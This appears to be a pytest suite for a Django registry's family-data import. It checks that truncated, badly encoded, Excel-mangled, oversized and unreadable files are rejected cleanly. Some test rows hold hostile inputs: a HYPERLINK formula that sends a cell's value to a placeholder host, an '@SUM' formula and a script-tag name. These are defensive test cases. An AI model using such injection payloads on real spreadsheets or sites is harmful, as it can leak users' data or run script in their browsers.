"""Files as they arrive from the field: each ends in a clear report, and a failed import never
loses or changes what the registry already holds."""

from __future__ import annotations

import zipfile

import pytest

from pandu.exchange.models import ImportBatch
from pandu.exchange.tests.conftest import (
    family,
    import_file,
    person,
    registry_state,
    report_rows,
    write_csv,
)
from pandu.registry.models import Person

pytestmark = pytest.mark.django_db


@pytest.fixture
def existing(household_factory):
    """Two families registered through the forms before any import."""
    household_factory()
    household_factory()
    return registry_state()


def _unchanged(before: dict) -> None:
    assert registry_state() == before


def _lines(path) -> list[str]:
    return path.read_text(encoding="utf-8").splitlines(keepends=True)


def test_truncated_file_rejects_the_cut_row_and_keeps_the_rest(personas, tmp_path, existing):
    path = write_csv(tmp_path / "cut.csv", family(101, 1010) + family(102, 1020))
    data = path.read_bytes()
    path.write_bytes(data[: data.rfind(b"Dusun")])  # cut in the middle of the last row
    batch = import_file(personas["admin_maros"], path)
    assert batch.rows_read == 6 and batch.rejected >= 1
    assert batch.accepted + batch.rejected + batch.skipped_empty == batch.rows_read
    reasons = {r["baris"]: r["alasan"] for r in report_rows(batch)}
    assert "berkas terpotong" in reasons["7"]
    assert Person.objects.filter(nik=family(101, 1010)[0]["nik"]).exists()
    assert registry_state()["sample"] == existing["sample"]


def test_windows_1252_names_with_accents_and_curly_quotes_are_read(personas, tmp_path):
    rows = family(101, 1010)
    rows[0]["full_name"] = "Andr\u00e9 Ma\u2019ruf"
    rows[1]["full_name"] = "Ren\u00e9e \u201cIda\u201d Tenri"
    rows[1]["full_name"] = "Ren\u00e9e Tenri"
    rows[2]["birth_place"] = "S\u00e9rang"
    path = write_csv(tmp_path / "win.csv", rows, delimiter=";", encoding="cp1252")
    batch = import_file(personas["admin_maros"], path)
    assert batch.encoding == "cp1252" and batch.delimiter == ";"
    assert batch.created == 3, report_rows(batch)
    assert Person.objects.get(nik=rows[0]["nik"]).full_name == "Andr\u00e9 Ma\u2019ruf"
    assert Person.objects.get(nik=rows[2]["nik"]).birth_place == "S\u00e9rang"


def test_formula_cells_are_text_and_rejected_and_the_report_cannot_run_them(
    personas, tmp_path, existing
):
    rows = family(101, 1010)
    rows[0]["full_name"] = '=HYPERLINK("http://contoh.invalid/?x="&A2,"Klik")'
    rows[1]["address"] = "@SUM(1+1)"
    batch = import_file(personas["admin_maros"], write_csv(tmp_path / "f.csv", rows))
    assert batch.rejected == 3 and batch.created == 0
    report = report_rows(batch)
    formula = [r for r in report if r["baris"] == "2"][0]
    assert "rumus spreadsheet" in formula["alasan"]
    assert formula["nilai"].startswith("'=HYPERLINK")  # neutralised in the report
    _unchanged(existing)


def test_xlsx_with_merged_kk_cells_and_numbers_excel_made_of_niks(personas, tmp_path, existing):
    openpyxl = pytest.importorskip("openpyxl")
    rows = family(101, 1010) + family(102, 1020)
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["DATA KELUARGA DESA MONCONGLOE LAPPARA"])  # a title above the header
    ws.append(["NO KK", "NIK", "NAMA", "JENIS KELAMIN", "TEMPAT LAHIR", "TGL LAHIR",
               "HUBUNGAN", "STATUS KAWIN", "KODE DESA", "RT", "RW", "ALAMAT"])  # fmt: skip
    for i, r in enumerate(rows):
        nik = int(r["nik"]) if i == 5 else r["nik"]  # one NIK typed into a number cell
        ws.append([r["kk_number"] if i in (0, 3) else None, nik, r["full_name"], r["sex"],
                   r["birth_place"], r["birth_date"], int(r["relationship"]), 2,
                   r["village_code"], 2, 1, r["address"]])  # fmt: skip
    ws.merge_cells("A3:A5")
    ws.merge_cells("A6:A8")
    path = tmp_path / "keluarga.xlsx"
    wb.save(path)
    batch = import_file(personas["admin_maros"], path)
    assert batch.file_kind == "excel" and batch.header_row == 2
    assert (batch.created, batch.rejected) == (5, 1), report_rows(batch)
    report = report_rows(batch)[0]
    assert report["baris"] == "8" and "tersimpan sebagai angka di Excel" in report["alasan"]
    assert registry_state()["sample"] == existing["sample"]


def test_empty_rows_are_skipped_counted_and_part_of_the_total(personas, tmp_path):
    path = write_csv(tmp_path / "e.csv", family(101, 1010))
    lines = _lines(path)
    lines.insert(2, ",,,,,,,,,,,,,,,,,,,\r\n")
    lines.insert(4, "\r\n")
    path.write_text("".join(lines) + " , , \r\n", encoding="utf-8")
    batch = import_file(personas["admin_maros"], path)
    assert (batch.rows_read, batch.created, batch.rejected, batch.skipped_empty) == (6, 3, 0, 3)
    assert "3 baris kosong dilewati" in batch.message


def test_nik_turned_into_scientific_notation_is_rejected_with_the_reason(
    personas, tmp_path, existing
):
    rows = [person(1010, kk_serial=101, nik="3.57301E+15")]
    batch = import_file(personas["admin_maros"], write_csv(tmp_path / "s.csv", rows))
    assert batch.rejected == 1
    reason = report_rows(batch)[0]["alasan"]
    assert "notasi ilmiah" in reason and "Format kolom NIK sebagai Teks" in reason
    _unchanged(existing)


def test_50000_character_cells_and_html_in_names_are_rejected(personas, tmp_path, existing):
    rows = family(101, 1010)
    rows[0]["full_name"] = "A" * 50_000
    rows[1]["full_name"] = "<script>alert(1)</script>Siti"
    rows[2]["address"] = "Jl. " + "x" * 50_000
    batch = import_file(personas["admin_maros"], write_csv(tmp_path / "l.csv", rows))
    assert batch.rejected == 3
    report = report_rows(batch)
    reasons = " ".join(r["alasan"] for r in report)
    assert "Nama terlalu panjang (50000 karakter" in reasons
    assert "Nama hanya boleh berisi huruf" in reasons
    assert max(len(r["nilai"]) for r in report) <= 60  # the report does not echo 50,000 chars
    _unchanged(existing)


@pytest.mark.parametrize(
    "name, content, message",
    [
        ("kosong.csv", b"", "Berkas kosong (0 byte)"),
        ("foto.csv", bytes(range(256)) * 40, "bukan berkas teks CSV"),
        ("dokumen.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "berkas PDF"),
        ("rusak.xlsx", None, "tidak dapat dibaca sebagai Excel"),
        ("judul.csv", b"\r\n\r\n,,,\r\n", "semua baris kosong"),
    ],
)
def test_unreadable_files_fail_with_a_clear_message_and_change_nothing(
    personas, tmp_path, existing, name, content, message
):
    path = tmp_path / name
    if content is None:
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("bukan/lembar-kerja.txt", "sampah " * 100)
    else:
        path.write_bytes(content)
    batch = import_file(personas["admin_maros"], path)
    assert batch.status == ImportBatch.Status.FAILED
    assert message in batch.message
    assert message in report_rows(batch)[0]["alasan"]
    _unchanged(existing)


def test_missing_required_columns_stop_before_any_row(personas, tmp_path, existing):
    from django.core.exceptions import ValidationError

    from pandu.exchange import actions

    path = write_csv(tmp_path / "c.csv", family(101, 1010), columns=["nik", "full_name", "sex"])
    batch = actions.create_import(personas["admin_maros"], source=path)
    with pytest.raises(ValidationError) as exc:
        actions.start_import(personas["admin_maros"], batch)
    assert "Kolom wajib belum dipilih: Nomor KK" in " ".join(exc.value.messages)
    _unchanged(existing)
